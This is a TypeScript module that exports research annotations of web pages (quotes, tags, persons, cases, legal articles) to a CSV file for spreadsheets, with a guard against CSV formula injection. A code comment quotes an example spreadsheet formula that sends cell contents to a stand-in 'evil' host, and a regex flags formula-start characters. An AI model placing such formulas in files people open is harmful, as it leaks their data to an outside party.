import Papa from 'papaparse';
import type { Annotation } from '@/lib/schema/annotation';
import type { RecordSet } from '@/lib/schema/envelope';
import type { LegalArticle } from '@/lib/schema/legal-article';
import type { Source } from '@/lib/schema/source';

// A flat table of the annotations for spreadsheets: one row per highlight, with the linked names
// and the page's metadata spelled out, so a colleague can sort and filter without our tools.

/** Column titles, in order; the header row of every CSV export. */
export const CSV_COLUMNS = [
  'annotation id',
  'created',
  'modified',
  'creator',
  'kind',
  'quote',
  'prefix',
  'suffix',
  'note',
  'tags',
  'persons',
  'cases',
  'fact event type',
  'fact date',
  'fact place',
  'legal article',
  'term',
  'source title',
  'site name',
  'source URL',
  'canonical URL',
  'published',
  'anchoring',
] as const;

/** Separator of several values in one cell (tags, names, titles). */
export const CSV_LIST_SEPARATOR = '; ';

// Excel, LibreOffice and Google Sheets run a cell that starts with one of these as a formula, so a
// quote taken from a hostile page (=HYPERLINK("http://evil/?"&A1), @SUM(...), -2+3) would execute
// or leak data when the researcher opens the file. OWASP's advice: prefix such cells with an
// apostrophe, which the spreadsheet shows as text. Line feed and the full-width forms are included
// because some spreadsheets also accept them. Papaparse's own `escapeFormulae` misses a cell whose
// first line is a formula and whose text goes on after a line break, so this is done here.
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The cell as a spreadsheet will show it, never as a formula. */
export function neutralizeFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** "Part 1 of Article 368 of the Criminal Code", the way the reviews cite a provision. */
export function formatLegalArticle(article: LegalArticle): string {
  const base = `Article ${article.article} of the ${article.code}`;
  return article.part === null ? base : `Part ${article.part} of ${base}`;
}

function row(a: Annotation, source: Source | undefined, names: Map<string, string>, titles: Map<string, string>) {
  const quote = a.selectors.find((s) => s.type === 'TextQuoteSelector');
  const fact = a.fact;
  // A link that does not resolve still shows its id, so nothing is silently dropped.
  const persons = a.personIds.map((id) => names.get(id) ?? id);
  const cases = a.caseIds.map((id) => titles.get(id) ?? id);
  return [
    a.id,
    a.created,
    a.modified,
    a.creator ?? '',
    a.kind,
    quote?.exact ?? '',
    quote?.prefix ?? '',
    quote?.suffix ?? '',
    a.note,
    a.tags.join(CSV_LIST_SEPARATOR),
    persons.join(CSV_LIST_SEPARATOR),
    cases.join(CSV_LIST_SEPARATOR),
    fact?.eventType ?? '',
    fact?.date ?? '',
    fact?.place ?? '',
    fact?.legalArticle ? formatLegalArticle(fact.legalArticle) : '',
    fact?.term?.text ?? '',
    source?.title ?? '',
    source?.siteName ?? '',
    source?.url ?? '',
    source?.canonicalUrl ?? '',
    source?.publishedTime ?? '',
    a.anchoring.state,
  ].map(neutralizeFormula);
}

/**
 * The annotations as CSV (RFC 4180): a header row, one row per annotation, every cell quoted,
 * CRLF line ends, and a UTF-8 byte order mark so Excel reads Cyrillic and other scripts correctly.
 */
export function toCsv(set: RecordSet): string {
  const sources = new Map(set.sources.map((s) => [s.id, s]));
  const names = new Map(set.persons.map((p) => [p.id, p.name]));
  const titles = new Map(set.cases.map((c) => [c.id, c.title]));
  const data = set.annotations.map((a) => row(a, sources.get(a.sourceId), names, titles));
  const body = Papa.unparse({ fields: [...CSV_COLUMNS], data }, { quotes: true, newline: '\r\n' });
  // Papaparse ends a header-only table with a line break and a table with rows without one.
  return `\uFEFF${body}${body.endsWith('\r\n') ? '' : '\r\n'}`;
}
